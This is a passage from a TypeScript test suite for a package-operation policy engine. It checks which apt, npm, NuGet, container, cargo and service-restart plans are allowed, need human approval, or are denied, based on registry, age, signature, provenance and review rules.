        plan: restoring({ provenance_evidence: npm().provenance_evidence }),
      },
      {
        what: "a claim that nothing is to do, with packages that change",
        plan: restoring({ nothing_to_do: true }, false),
      },
    ],
    not: [
      { what: "executions alone made what comes back", plan: restoring() },
      { what: "an installation", plan: npm() },
      { what: "apt's", plan: rollback([older], "a:amd64=0.9") },
      { what: "nothing to undo", plan: restoring({ nothing_to_do: true, transaction: [] }, false) },
    ],
  },
  "artifact-registry": {
    decision: "deny",
    fires: [
      { what: "another registry", plan: npm({ source_registry: "https://npm.example/" }) },
      {
        what: "two registries",
        plan: npm({ source_registry: "https://npm.example/ https://registry.npmjs.org/" }),
      },
      { what: "none named", plan: npm({ source_registry: null }) },
      {
        what: "the artifact is elsewhere",
        plan: npm({ transaction: npm().transaction.map((e) => ({ ...e, origin: "cdn.example" })) }),
      },
      {
        what: "one that only looks like it",
        plan: npm({ source_registry: "https://registry.npmjs.org.evil.example/" }),
      },
    ],
    not: [
      { what: "the public one", plan: npm() },
      {
        what: "a company's, named",
        plan: npm({ source_registry: "https://npm.example:8443/x/" }),
        toml: '[npm]\nallowed_registries = ["npm.example:8443", "registry.npmjs.org"]',
      },
    ],
  },
  "artifact-too-new": {
    decision: "deny",
    fires: [
      {
        what: "a day short",
        plan: npm({ published_at: "2025-12-27T03:04:05Z" }),
        toml: "[npm]\nminimum_age_days = 7",
      },
      { what: "unknown", plan: npm({ published_at: null }), toml: "[npm]\nminimum_age_days = 7" },
      {
        what: "a dependency alone",
        plan: npm({ transaction: withDependency({ published_at: "2026-01-01T03:04:05Z" }) }),
        toml: "[npm]\nminimum_age_days = 7",
      },
      {
        what: "a dependency of unknown age",
        plan: npm({ transaction: withDependency({}) }),
        toml: "[npm]\nminimum_age_days = 7",
      },
    ],
    not: [
      {
        what: "the whole closure is old enough",
        plan: npm({ transaction: withDependency({ published_at: "2025-12-26T03:04:05Z" }) }),
        toml: "[npm]\nminimum_age_days = 7",
      },
      {
        what: "old enough to the second",
        plan: npm({ published_at: "2025-12-26T03:04:05Z" }),
        toml: "[npm]\nminimum_age_days = 7",
      },
      { what: "no minimum", plan: npm({ published_at: null }) },
    ],
  },
  "publisher-change": {
    decision: "deny",
    fires: [
      {
        what: "a day short",
        plan: npm({ transaction: withDependency({ publisher_since: "2025-12-27T03:04:05Z" }) }),
        toml: "[npm]\nminimum_age_days = 7",
      },
    ],
    not: [
      {
        what: "a week ago",
        plan: npm({ transaction: withDependency({ publisher_since: "2025-12-26T03:04:05Z" }) }),
        toml: "[npm]\nminimum_age_days = 7",
      },
      { what: "no change", plan: npm(), toml: "[npm]\nminimum_age_days = 7" },
      {
        what: "no minimum",
        plan: npm({ transaction: withDependency({ publisher_since: "2026-01-02T03:04:05Z" }) }),
      },
    ],
  },
  "trust-downgrade": {
    decision: "deny",
    fires: [
      {
        what: "of a dependency",
        plan: npm({ transaction: withDependency({ trust_downgrade: "1.0.0 was signed by the registry" }) }),
      },
    ],
    not: [{ what: "nothing lost", plan: npm({ transaction: withDependency({}) }) }],
  },
  "artifact-provenance": {
    decision: "deny",
    fires: [{ what: "no attestation", plan: npm(), toml: "[npm]\nrequire_provenance = true" }],
    not: [
      { what: "not required", plan: npm() },
      {
        what: "a verified one",
        plan: npm({
          provenance_evidence: [
            { kind: "npm-attestation", subject: "left-pad@1.3.0", verified: true, key: null, detail: "" },
          ],
        }),
        toml: "[npm]\nrequire_provenance = true",
      },
    ],
  },
  "vscode-signature": {
    decision: "deny",
    fires: [
      { what: "none", plan: { ...extension(), provenance_evidence: [] }, toml: VSCODE_SIGNED },
      { what: "a hash", plan: extension({ kind: "vscode-sha256", key: null }), toml: VSCODE_SIGNED },
      { what: "one that was not verified", plan: extension({ verified: false }), toml: VSCODE_SIGNED },
      { what: "of another extension", plan: extension({ subject: "x@1.0.0" }), toml: VSCODE_SIGNED },
      {
        what: "by another key",
        plan: extension(),
        toml: `${VSCODE_SIGNED}signing_keys = ["3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c"]`,
      },
      { what: "by a certificate that nobody knows", plan: extension(CMS), toml: VSCODE_SIGNED },
      {
        what: "by another certificate",
        plan: extension(CMS),
        toml: `${VSCODE_SIGNED}certificates = ["${"b".repeat(64)}"]`,
      },
      {
        what: "by a certificate of the policy, not verified",
        plan: extension({ ...CMS, verified: false }),
        toml: `${VSCODE_SIGNED}certificates = ["${CMS.key}"]`,
      },
      {
        what: "by a certificate that authors of NuGet have",
        plan: extension(CMS),
        toml: `${VSCODE_SIGNED}[nuget]\nauthors = ["${CMS.key}"]`,
      },
    ],
    not: [
      { what: "not required", plan: extension() },
      { what: "by the gallery's key", plan: extension(), toml: VSCODE_SIGNED },
      {
        what: "by a key of the policy",
        plan: extension(),
        toml: `${VSCODE_SIGNED}signing_keys = ["${GALLERY_KEY}"]`,
      },
      {
        what: "by a certificate of the policy",
        plan: extension(CMS),
        toml: `${VSCODE_SIGNED}certificates = ["${CMS.key}"]`,
      },
    ],
  },
  "nuget-signature": {
    decision: "deny",
    fires: [
      { what: "none", plan: { ...nupkg(), provenance_evidence: [] }, toml: NUGET_SIGNED },
      { what: "a hash", plan: nupkg({ kind: "nuget-sha512", key: null }), toml: NUGET_SIGNED },
      {
        what: "one that was not verified",
        plan: nupkg({ kind: "nuget-repository-signature", verified: false }),
        toml: NUGET_SIGNED,
      },
      {
        what: "an author's whom nobody knows",
        plan: nupkg(),
        toml: `${NUGET_SIGNED}authors = ["${"b".repeat(64)}"]`,
      },
      {
        what: "of another package",
        plan: nupkg({ kind: "nuget-repository-signature", subject: "x@1" }),
        toml: NUGET_SIGNED,
      },
    ],
    not: [
      { what: "not required", plan: nupkg() },
      { what: "the source's", plan: nupkg({ kind: "nuget-repository-signature" }), toml: NUGET_SIGNED },
      {
        what: "a known author's",
        plan: nupkg(),
        toml: `${NUGET_SIGNED}authors = ["${"AA:".repeat(32).slice(0, -1)}"]`,
      },
    ],
  },
  "image-provenance": {
    decision: "deny",
    fires: [
      { what: "none", plan: pull(), toml: "[container]\nrequire_provenance = true" },
      {
        what: "by nobody that the policy names",
        plan: by(SLSA),
        toml: "[container]\nrequire_provenance = true",
      },
      {
        what: "a signature, which says nothing of the build",
        plan: by(IDENTITY),
        toml: `[container]\nrequire_provenance = true\n${SIGNER}`,
      },
      {
        what: "of another image",
        plan: by({ ...SLSA, subject: `${IMAGE}0` }),
        toml: `[container]\nrequire_provenance = true\n${SIGNER}`,
      },
    ],
    not: [
      { what: "not required", plan: pull() },
      {
        what: "by somebody named",
        plan: by(SLSA),
        toml: `[container]\nrequire_provenance = true\n${SIGNER}`,
      },
    ],
  },
  "image-signature": {
    decision: "deny",
    fires: [
      { what: "none", plan: pull(), toml: SIGNED },
      { what: "none, with a signer", plan: pull(), toml: `${SIGNED}${SIGNER}` },
      { what: "by an identity that isn't named", plan: by(IDENTITY), toml: SIGNED },
      {
        what: "one that was not verified",
        plan: by({ ...IDENTITY, verified: false }),
        toml: `${SIGNED}${SIGNER}`,
      },
      { what: "another subject", plan: by(IDENTITY), toml: SIGNED + SIGNER.replace("a@b", "c@b") },
      { what: "another issuer", plan: by(IDENTITY), toml: SIGNED + SIGNER.replace("github", "gitlab") },
      {
        what: "named for other images",
        plan: by(IDENTITY),
        toml: SIGNED + SIGNER.replace("docker.io/library/*", "docker.io/library/app2"),
      },
      {
        what: "another source",
        plan: by(IDENTITY),
        toml: `${SIGNED}${SIGNER}source_repository = "https://github.com/x/z"`,
      },
      { what: "provenance, which is no signature", plan: by(SLSA), toml: `${SIGNED}${SIGNER}` },
      {
        what: "of another image",
        plan: by({ ...IDENTITY, subject: `${IMAGE}0` }),
        toml: `${SIGNED}${SIGNER}`,
      },
      {
        what: "by another key",
        plan: by(keyed(P256.privateKey)),
        toml: `${SIGNED}${KEY_OF(generateKeyPairSync("ed25519"))}`,
      },
      {
        what: "by a key, one bit changed",
        plan: by(keyed(P256.privateKey, 1)),
        toml: `${SIGNED}${KEY_OF(P256)}`,
      },
      {
        what: "by a key that an identity is said to have",
        plan: by({ ...keyed(P256.privateKey), verified: true }),
        toml: `${SIGNED}${SIGNER}`,
      },
    ],
    not: [
      { what: "not required", plan: pull() },
      { what: "by a named identity", plan: by(IDENTITY), toml: `${SIGNED}${SIGNER}` },
      {
        what: "by a named identity for this image alone",
        plan: by(IDENTITY),
        toml: SIGNED + SIGNER.replace("library/*", "library/app"),
      },
      {
        what: "with a source",
        plan: by(IDENTITY),
        toml: `${SIGNED}${SIGNER}source_repository = "https://github.com/x/*"`,
      },
      { what: "by a named P-256 key", plan: by(keyed(P256.privateKey)), toml: `${SIGNED}${KEY_OF(P256)}` },
      {
        what: "by a named Ed25519 key",
        plan: by(keyed(ED25519.privateKey)),
        toml: `${SIGNED}${KEY_OF(ED25519)}`,
      },
      { what: "another ecosystem", plan: npm(), toml: SIGNED },
    ],
  },
  "image-root-user": {
    decision: "deny",
    fires: [
      {
        what: "root",
        plan: pull({ image: { ...APP, starts_as_root: true } }),
        toml: "[container]\nallow_root_user = false",
      },
      { what: "unknown", plan: unconfigured(), toml: "[container]\nallow_root_user = false" },
    ],
    not: [
      { what: "another user", plan: pull(), toml: "[container]\nallow_root_user = false" },
      { what: "allowed, as by default", plan: pull({ image: { ...APP, starts_as_root: true } }) },
    ],
  },
  "cargo-build-scripts": {
    decision: "deny",
    fires: [
      { what: "a build script", plan: crate(script("fn main() {}")) },
      { what: "a procedural macro", plan: crate({ build_hooks_detected: true }) },
      {
        what: "a build script whose flags were taken out, with cargo allowed",
        plan: crate({ ...script("fn main() {}"), scripts_detected: false }),
        toml: '[cargo]\napply = "allow"',
      },
    ],
    not: [
      { what: "nothing runs while it is built", plan: crate({}) },
      {
        what: "allowed, which leaves it to a person",
        plan: crate({ ...script("fn main() {}"), build_hooks_detected: true }),
        toml: "[cargo]\nallow_build_scripts = true",
      },
      { what: "another ecosystem's scripts", plan: npm(script("node x.js")) },
    ],
  },
  "kernel-change": {
    decision: "require_human",
    fires: [
      { what: "a kernel", plan: changing("linux-image-9.9.9-aegis") },
      { what: "with :arch", plan: changing("linux-image-amd64:amd64") },
      {
        what: "removed",
        plan: install({ transaction: [removal("linux-image-6.1.0-1-amd64")] }),
        toml: "[apt]\nallow_removals = true",
      },
    ],
    not: [
      { what: "its headers for user space", plan: changing("linux-libc-dev") },
      { what: "put on hold", plan: marking("hold", [marked("linux-image-amd64", "hold")]) },
    ],
  },
  "bootloader-change": {
    decision: "require_human",
    fires: [{ what: "grub", plan: changing("grub-pc") }],
    not: [{ what: "grubby", plan: changing("grubby") }],
  },
  "security-sensitive": {
    decision: "require_human",
    fires: [
      { what: "sudo", plan: changing("sudo") },
      { what: "libssl3:i386", plan: changing("libssl3:i386") },
      { what: "named by the policy", plan: changing("hello"), toml: '[apt]\nsensitive_packages = ["hel*"]' },
    ],
    not: [
      { what: "sudoku", plan: changing("sudoku") },
      { what: "put on hold", plan: marking("hold", [marked("sudo", "hold")]) },
    ],
  },
  "apt-upgrade-installs": {
    decision: "require_human",
    fires: [
      {
        what: "a new package",
        plan: upgrade({
          transaction: [entry("hello"), entry("new", { action: "install", from_version: null })],
        }),
      },
    ],
    not: [
      { what: "upgrades only (PEER 4)", plan: upgrade() },
      { what: "an install", plan: install() },
    ],
  },
  "apt-held-change": {
    decision: "require_human",
    fires: [
      { what: "a held package", plan: install({ packages_held_back: ["hello"] }) },
      {
        what: "a foreign one",
        plan: install({
          transaction: [entry("hello", { architecture: "i386" })],
          packages_held_back: ["hello:i386"],
        }),
      },
    ],
    not: [
      { what: "one kept back and left alone", plan: upgrade({ packages_held_back: ["other"] }) },
      {
        what: "the host's own kept back, a foreign one changed",
        plan: install({
          transaction: [entry("hello", { architecture: "i386" })],
          packages_held_back: ["hello"],
        }),
      },
      { what: "kept back in another architecture", plan: upgrade({ packages_held_back: ["hello:i386"] }) },
    ],
  },
  "apt-update-unauthenticated": {
    decision: "require_human",
    fires: [
      { what: "trusted=yes", plan: update({ repository_evidence: [{ ...WEAK, trusted_option: true }] }) },
      { what: "allow-insecure", plan: update({ repository_evidence: [{ ...WEAK, allow_insecure: true }] }) },
    ],
    not: [
      {
        what: "nothing downloaded yet",
        plan: update({ repository_evidence: [{ ...DEBIAN, signature_verified: false, trust: "untrusted" }] }),
      },
    ],
  },
  "lifecycle-scripts": {
    decision: "require_human",
    fires: [
      { what: "a script", plan: npm(script("node build.js")), toml: NPM_ALLOWED },
      {
        what: "a script whose flag was taken out",
        plan: npm({ ...script("node x.js"), scripts_detected: false }),
        toml: NPM_ALLOWED,
      },
      { what: "a flag whose script was taken out", plan: npm({ scripts_detected: true }), toml: NPM_ALLOWED },
    ],
    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
  },
  "build-hooks": {
    decision: "require_human",
    fires: [{ what: "a build hook", plan: npm({ build_hooks_detected: true }), toml: NPM_ALLOWED }],
    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
  },
  "native-code": {
    decision: "require_human",
    fires: [{ what: "native code", plan: npm({ native_code_risk: true }), toml: NPM_ALLOWED }],
    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
  },
  "bundled-binaries": {
    decision: "require_human",
    fires: [{ what: "a binary", plan: npm({ binary_artifact_risk: true }), toml: NPM_ALLOWED }],
    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
  },
  "metadata-missing": {
    decision: "require_human",
    fires: [
      { what: "apt-get is missing", plan: upgrade(failed("missing", "apt-get", "-s", "upgrade")) },
      { what: "all evidence taken out", plan: upgrade({ raw_evidence: { commands: [] } }) },
      { what: "there is no nuget", plan: { ...nupkg(), ...failed("missing", "nuget") } },
    ],
    not: [
      { what: "evidence is there", plan: upgrade() },
      { what: "apt update asks nobody", plan: update() },
      { what: "npm's rollback asks nobody", plan: restoring() },
      {
        what: "NuGet's source was asked by GET alone",
        plan: { ...nupkg(), raw_evidence: { commands: [] } },
        toml: '[nuget]\napply = "allow"\nallowed_registries = ["registry.npmjs.org"]\n',
      },
    ],
  },
  "vulnerability-grave": {
    decision: "require_human",
    fires: [
      { what: "high", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }) },
      {
        what: "exploited",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "low", ...EXPLOITED })] }),
      },
      {
        what: "exploited in both versions, where what remains needs a person",
        plan: upgrade({
          vulnerability_evidence: [vulnerability({ also_old: true, severity: "low", ...EXPLOITED })],
        }),
        toml: REMAINING,
      },
      {
        what: "medium in both versions, where medium is denied and what remains needs a person",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ also_old: true, severity: "medium" })] }),
        toml: `${REMAINING}deny = "medium"`,
      },
      {
        what: "high, and somebody says that it is not affected",
        plan: upgrade({
          vulnerability_evidence: [
            vulnerability({ severity: "high", vex: { ...RULED_OUT, authentic: false } }),
          ],
        }),
      },
      {
        what: "unknown severity",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "unknown" })] }),
      },
    ],
    not: [
      { what: "medium", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "medium" })] }) },
      {
        what: "unknown, and the distribution states that it is not affected",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "unknown", vex: RULED_OUT })] }),
      },
      {
        what: "unknown in the old version",
        plan: upgrade({
          vulnerability_evidence: [
            vulnerability({ severity: "unknown", applies_to: "old", version: "1.0-1" }),
          ],
        }),
      },
    ],
  },
  "nothing-to-do": {
    decision: "allow",
    fires: [{ what: "already installed", plan: install({ nothing_to_do: true, transaction: [] }) }],
    not: [
      { what: "only the plan says so", plan: install({ nothing_to_do: true }) },
      { what: "update", plan: update({ nothing_to_do: true }) },
    ],
  },
  "apt-install": {
    decision: "require_human",
    fires: [
      { what: "install", plan: install() },
      { what: "said to be nothing, with a transaction", plan: install({ nothing_to_do: true }) },
    ],
    not: [
      { what: "upgrade", plan: upgrade() },
      { what: "npm install", plan: npm() },
    ],
  },
  "apt-upgrade": {
    decision: "allow_with_snapshot",
    fires: [{ what: "upgrade", plan: upgrade() }],
    not: [{ what: "install", plan: install() }],
  },
  "apt-remove": {
    decision: "require_human",
    fires: [
      { what: "remove", plan: remove(["hello"], [removal("hello")]) },
      {
        what: "whatever the policy allows",
        plan: remove(["hello"], [removal("hello")]),
        toml: '[apt]\nallow_removals = true\ninstall = "allow"\nupgrade = "allow"',
      },
    ],
    not: [
      { what: "nothing to remove", plan: { ...remove(["hello"], []), nothing_to_do: true } },
      { what: "install", plan: install() },
    ],
  },
  "apt-rollback": {
    decision: "require_human",
    fires: [{ what: "a rollback", plan: rollback([older], "a:amd64=0.9") }],
    not: [{ what: "undone already", plan: { ...rollback([]), nothing_to_do: true } }],
  },
  "managed-rollback": {
    decision: "require_human",
    fires: [
      { what: "a rollback, where the policy denies npm", plan: restoring(), toml: '[npm]\napply = "deny"' },
      { what: "a rollback, where the policy allows npm", plan: restoring(), toml: NPM_ALLOWED },
      {
        what: "a rollback, whatever the policy asks of what is fetched",
        plan: restoring(),
        toml: '[npm]\nminimum_age_days = 7\nrequire_provenance = true\nallowed_registries = ["npm.example"]',
      },
      { what: "files alone that change", plan: restoring({ transaction: [] }) },
    ],
    not: [
      { what: "nothing to undo", plan: restoring({ nothing_to_do: true, transaction: [] }) },
      { what: "an installation", plan: npm() },
      { what: "apt's", plan: rollback([older], "a:amd64=0.9") },
    ],
  },
  ...REPOSITORY_CASES,
  "apt-running-kernel-removal": {
    decision: "deny",
    fires: [
      { what: "autoremove", plan: kernelGoes("autoremove") },
      { what: "a purge that names it", plan: kernelGoes("purge") },
      {
        what: "a removal, whatever the policy allows",
        plan: kernelGoes("remove"),
        toml: "[apt]\nallow_removals = true",
      },
    ],
    not: [{ what: "another kernel", plan: remove([KERNEL], [removal(KERNEL)]) }],
  },
  "apt-autoremove-else": {
    decision: "deny",
    fires: [{ what: "an autoremove that installs", plan: automatic([entry("b", { action: "install" })]) }],
    not: [{ what: "one that removes", plan: automatic([removal("b")]) }],
  },
  "apt-autoremove": {
    decision: "require_human",
    fires: [
      {
        what: "whatever the policy allows",
        plan: automatic([removal("b")]),
        toml: '[apt]\nupgrade = "allow"',
      },
    ],
    not: [{ what: "nothing to remove", plan: { ...automatic([]), nothing_to_do: true } }],
  },
  "apt-purge": {
    decision: "require_human",
    fires: [{ what: "a purge", plan: purging(["hello"], [removal("hello")]) }],
    not: [{ what: "a removal", plan: remove(["hello"], [removal("hello")]) }],
  },
  "apt-security-upgrade": {
    decision: "allow_with_snapshot",
    fires: [
      { what: "from the pocket", plan: securing() },
      {
        what: "as the policy says of upgrades",
        plan: securing(),
        toml: '[apt]\nupgrade = "allow_with_snapshot"',
      },
    ],
    not: [
      { what: "an upgrade", plan: upgrade() },
      { what: "nothing to fix", plan: { ...securing({ transaction: [] }), nothing_to_do: true } },
    ],
  },
  "apt-security-other": {
    decision: "require_human",
    fires: [
      {
        what: "what another suite offers goes along",
        plan: securing({ transaction: [POCKETED, entry("b")] }),
      },
      {
        what: "the pocket is a third party's",
        plan: securing({ repository_evidence: [{ ...SECURITY_POCKET, trust: "pinned" }] }),
      },
    ],
    not: [
      { what: "from the pocket", plan: securing() },
      { what: "an upgrade", plan: upgrade() },
    ],
  },
  "apt-full-upgrade": {
    decision: "require_human",
    fires: [
      {
        what: "upgrades alone",
        plan: upgrade({ operation: "full-upgrade" }),
        toml: '[apt]\nupgrade = "allow"',
      },
    ],
    not: [{ what: "an upgrade", plan: upgrade() }],
  },
  "apt-hold": {
    decision: "require_human",
    fires: [
      { what: "a hold", plan: marking("hold") },
      {
        what: "whatever the policy allows",
        plan: marking("hold"),
        toml: '[apt]\ninstall = "allow"\nupgrade = "allow"',
      },
    ],
    not: [
      { what: "on hold already", plan: { ...marking("hold", []), nothing_to_do: true } },
      { what: "an unhold", plan: marking("unhold") },
    ],
  },
  "apt-unhold": {
    decision: "require_human",
    fires: [{ what: "an unhold", plan: marking("unhold") }],
    not: [{ what: "a hold", plan: marking("hold") }],
  },
  "apt-hold-sensitive": {
    decision: "require_human",
    fires: [
      { what: "openssl", plan: marking("hold", [marked("openssl", "hold")]) },
      { what: "a kernel", plan: marking("hold", [marked("linux-image-amd64", "hold")]) },
      { what: "a boot loader", plan: marking("hold", [marked("grub-pc", "hold")]) },
      {
        what: "one that the policy names",
        plan: marking("hold"),
        toml: '[apt]\nsensitive_packages = ["hel*"]',
      },
    ],
    not: [
      { what: "another one", plan: marking("hold") },
      { what: "openssl, taken off hold", plan: marking("unhold", [marked("openssl", "unhold")]) },
      { what: "openssl, upgraded", plan: changing("openssl") },
    ],
  },
  "apt-hold-elsewhere": {
    decision: "deny",
    fires: [
      { what: "a hold that upgrades", plan: marking("hold", [entry("hello")]) },
      { what: "a hold that removes as well", plan: marking("hold", [marked("hello", "hold"), removal("b")]) },
      { what: "a hold that takes one off", plan: marking("hold", [marked("hello", "unhold")]) },
      { what: "an upgrade that sets one", plan: upgrade({ transaction: [marked("hello", "hold")] }) },
      {
        what: "a rollback that does both",
        plan: rollback([older, marked("b", "hold")], "a:amd64=0.9"),
      },
    ],
    not: [
      { what: "a hold", plan: marking("hold") },
      { what: "an unhold", plan: marking("unhold") },
      { what: "a rollback of a hold", plan: rollback([marked("hello", "unhold")]) },
    ],
  },
  "apt-repair": {
    decision: "require_human",
    fires: [
      { what: "a repair", plan: repair([configured]) },
      { what: "of dpkg's journal alone", plan: repair([]) },
    ],
    not: [{ what: "nothing half-done", plan: { ...repair([]), nothing_to_do: true } }],
  },
  "services-restart": {
    decision: "require_human",
    fires: [
      { what: "one service", plan: restart(["nginx.service"]) },
      { what: "a socket", plan: restart(["nginx.socket"]) },
    ],
    not: [{ what: "an installation", plan: install() }],
  },
  "services-never-restarted": {
    decision: "deny",
    fires: [
      { what: "D-Bus", plan: restart(["dbus.service"]) },
      {
        what: "D-Bus, where restarts are allowed",
        plan: restart(["dbus.service"]),
        toml: '[services]\nrestart = "allow"',
      },
      { what: "D-Bus, restarted with another", plan: restart(["nginx.service"], ["dbus.service"]) },
      { what: "logins", plan: restart(["systemd-logind.service"]) },
      { what: "a graphical session", plan: restart(["gdm3.service"]) },
      { what: "a user's own services", plan: restart(["user@1000.service"]) },
      {
        what: "where another is permitted",
        plan: restart(["dbus.service"]),
        toml: '[services]\npermitted_units = ["dbus.socket", "systemd-*"]',
      },
    ],
    not: [
      { what: "a service", plan: restart(["nginx.service"]) },
      { what: "ssh", plan: restart(["ssh.service"]) },
      {
        what: "permitted",
        plan: restart(["dbus.service"]),
        toml: '[services]\npermitted_units = ["dbus.service"]',
      },
      { what: "a package of that name", plan: changing("dbus.service") },
    ],
  },
  "services-risky": {
    decision: "require_human",
    fires: [
      {
        what: "ssh, where restarts are allowed",
        plan: restart(["ssh.service"]),
        toml: '[services]\nrestart = "allow"',
      },
      { what: "the network", plan: restart(["systemd-networkd.service"]) },
      { what: "a database's instance", plan: restart(["postgresql@15-main.service"]) },
      { what: "ssh, restarted with another", plan: restart(["nginx.service"], ["ssh.service"]) },
      {
        what: "permitted, so that a person decides",
        plan: restart(["dbus.service"]),
        toml: '[services]\npermitted_units = ["dbus*"]',
      },
      {
        what: "named by the policy",
        plan: restart(["shop.service"]),
        toml: '[services]\nsensitive_units = ["shop*"]',
      },
    ],
    not: [
      { what: "nginx", plan: restart(["nginx.service"]) },
      { what: "a name that only begins like it", plan: restart(["sshguard.service"]) },
      { what: "a package of that name", plan: changing("ssh.service") },
    ],
  },
  "apt-update": {
    decision: "allow",
    fires: [{ what: "update", plan: update() }],
    not: [{ what: "upgrade", plan: upgrade() }],
  },
  "apt-update-changes": {
    decision: "deny",
    fires: [{ what: "an update that changes a package", plan: update({ transaction: [entry("hello")] }) }],
    not: [{ what: "an update", plan: update() }],
  },
  "npm-apply": {
    decision: "deny",
    fires: [{ what: "npm", plan: npm() }],
    not: [
      { what: "apt", plan: install() },
      { what: "a rollback", plan: restoring() },
    ],
  },
  ...Object.fromEntries(
    (["pip", "container", "nuget", "vscode", "go", "cargo"] as const).map((tool) => [
      `${tool}-apply`,
      {
        decision: tool === "container" || tool === "go" ? "allow" : "deny",
        fires: [{ what: tool, plan: { ...npm(), tool } }],
        not: [{ what: "npm", plan: npm() }],
      } satisfies RuleCases,
    ]),
  ),
  undecided: {
    decision: "require_human",
    fires: [
      {
        what: "an unknown operation",
        plan: upgrade({ operation: "dist-upgrade" }),
        toml: '[apt]\nupgrade = "allow"',
      },
    ],
    not: [
      { what: "update", plan: update() },
      { what: "nothing to do", plan: install({ nothing_to_do: true, transaction: [] }) },
    ],
  },
  "review-missing": {
    decision: "require_human",
    fires: [
      { what: "none", plan: update(), toml: "[review]\nrequired = true" },
      { what: "none, and a reviewer is named", plan: update(), toml: REVIEWED },
      { what: "one that nobody signed", plan: update(), toml: REVIEWED, review: review() },
      {
        what: "one by a stranger",
        plan: update(),
        toml: REVIEWED,
        review: signReview(review(), STRANGER),
      },
      {
        what: "one that was changed after it was signed",
        plan: update(),
        toml: REVIEWED,
        review: { ...signReview(review(), REVIEWER), summary: "better" },
      },
      {
        what: "one by a reviewer, where no reviewer is named",
        plan: update(),
        toml: "[review]\nrequired = true",
        review: signReview(review(), REVIEWER),
      },
    ],
    not: [
      { what: "not required", plan: update() },
      {
        what: "signed by the reviewer",
        plan: update(),
        toml: REVIEWED,
        review: signReview(review(), REVIEWER),
      },
    ],
  },
  "review-denies": {
    decision: "deny",
    fires: [
      { what: "risk deny", plan: update(), review: review({ risk: "deny" }) },
      { what: "recommendation deny", plan: update(), review: review({ recommendation: "deny" }) },
    ],
    not: [{ what: "risk high", plan: update(), review: review({ risk: "high" }) }],
  },
  "review-wants-human": {
    decision: "require_human",
    fires: [
      { what: "recommendation", plan: update(), review: review({ recommendation: "require_human" }) },
      { what: "risk", plan: update(), review: review({ risk: "high" }) },
      { what: "supply chain", plan: update(), review: review({ supply_chain_risk: "high" }) },
      { what: "privilege", plan: update(), review: review({ privilege_risk: "high" }) },
      { what: "persistence", plan: update(), review: review({ persistence_risk: "high" }) },
      { what: "availability", plan: update(), review: review({ availability_risk: "high" }) },
      { what: "a red flag", plan: update(), review: review({ red_flags: ["x"] }) },
      { what: "a control", plan: update(), review: review({ required_controls: ["human approval"] }) },
    ],
    not: [
      {
        what: "medium everywhere",
        plan: update(),
        review: review({ risk: "medium", privilege_risk: "medium" }),
      },
    ],
  },
  "review-wants-snapshot": {
    decision: "allow_with_snapshot",
    fires: [
      { what: "recommendation", plan: update(), review: review({ recommendation: "approve_with_snapshot" }) },
      { what: "a control", plan: update(), review: review({ required_controls: ["system snapshot"] }) },
    ],
    not: [{ what: "nothing against it", plan: update(), review: review() }],
  },
};

test("crates whose code would run are named, with what to configure, and a person decides where it is allowed", () => {
  const plan = crate({
    ...script("fn main() {}"),
    build_hooks_detected: true,
    source_registry: "https://index.crates.io/",
    transaction: [],
  });
  const denied = decide(plan, '[cargo]\napply = "require_human"');
  expect(denied.reasons.find((text) => text.includes("allow_build_scripts = true"))).toContain(
    "left-pad postinstall",
  );
  const allowed = decide(plan, '[cargo]\napply = "allow"\nallow_build_scripts = true');
  expect(allowed.rules).toEqual(expect.arrayContaining(["build-hooks", "lifecycle-scripts"]));
  expect(allowed.rules).not.toContain("artifact-registry");
});

test("every rule has cases", () => {
  expect(Object.keys(CASES).sort()).toEqual(RULES.map((rule) => rule.id).sort());
});

const DECISIONS_IN_ORDER: readonly Decision[] = ["allow", "allow_with_snapshot", "require_human", "deny"];
for (const [id, { decision, fires, not }] of Object.entries(CASES)) {
  describe(id, () => {
    test(`decides ${decision}`, () => {
      const rule = RULES.find((one) => one.id === id);
      expect(rule && decisionOf(rule, parsePolicyConfig(BUILT_IN, "test"))).toBe(decision);
    });
    for (const { what, plan, toml, review: document } of fires) {
      test(`fires: ${what}`, () => {
        const result = decide(plan, toml, document);
        expect(result.rules).toContain(id);
        expect(DECISIONS_IN_ORDER.indexOf(result.decision)).toBeGreaterThanOrEqual(
          DECISIONS_IN_ORDER.indexOf(decision),
        );
      });
    }
    for (const { what, plan, toml, review: document } of not) {
      test(`not: ${what}`, () => expect(decide(plan, toml, document).rules).not.toContain(id));
    }
  });
}

describe("what the configuration turns", () => {
  const cases: readonly [toml: string, plan: OperationPlan, decision: Decision][] = [
    ['[apt]\ninstall = "deny"', install(), "deny"],
    ['[apt]\nupgrade = "deny"', upgrade(), "deny"],
    ['[apt]\nupdate = "require_human"', update(), "require_human"],
    ['[apt]\ninstall = "allow_with_snapshot"', install(), "allow_with_snapshot"],
    ['[apt]\ninstall = "allow"', install(), "allow"],
    [
      '[apt]\ninstall = "allow"\nallow_removals = true',
      install({ transaction: [entry("a"), removal("b")] }),
      "require_human",
    ],
    [
      '[apt]\ninstall = "allow"\nallow_downgrades = true',
      install({ transaction: [entry("a", { action: "downgrade" })] }),
      "require_human",
    ],
    ['[apt]\ninstall = "allow"', install({ transaction: [entry("sudo")] }), "require_human"],
    [NPM_ALLOWED, npm(), "allow"],
    ['[npm]\napply = "require_human"', npm(), "require_human"],
    [NPM_ALLOWED, npm({ mutable_reference: true }), "deny"],
  ];
  for (const [toml, plan, decision] of cases) {
    test(`${toml.replaceAll("\n", " ")}: ${plan.tool} ${plan.operation} is ${decision}`, () => {
      expect(decide(plan, toml).decision).toBe(decision);
    });
  }
});

describe("as recorded; after an intended change run this file with --update-snapshots", () => {
  test("what each case is decided, by which rules", () => {
    const decisions = Object.entries(CASES).flatMap(([id, { fires, not }]) =>
      [...fires, ...not].map(({ what, plan, toml, review: document }) => {
        const { decision, required_controls, reasons } = decide(plan, toml, document);
        const said = reasons.map((reason) => RULES.find((rule) => saidBy(rule, reason))?.id ?? reason);
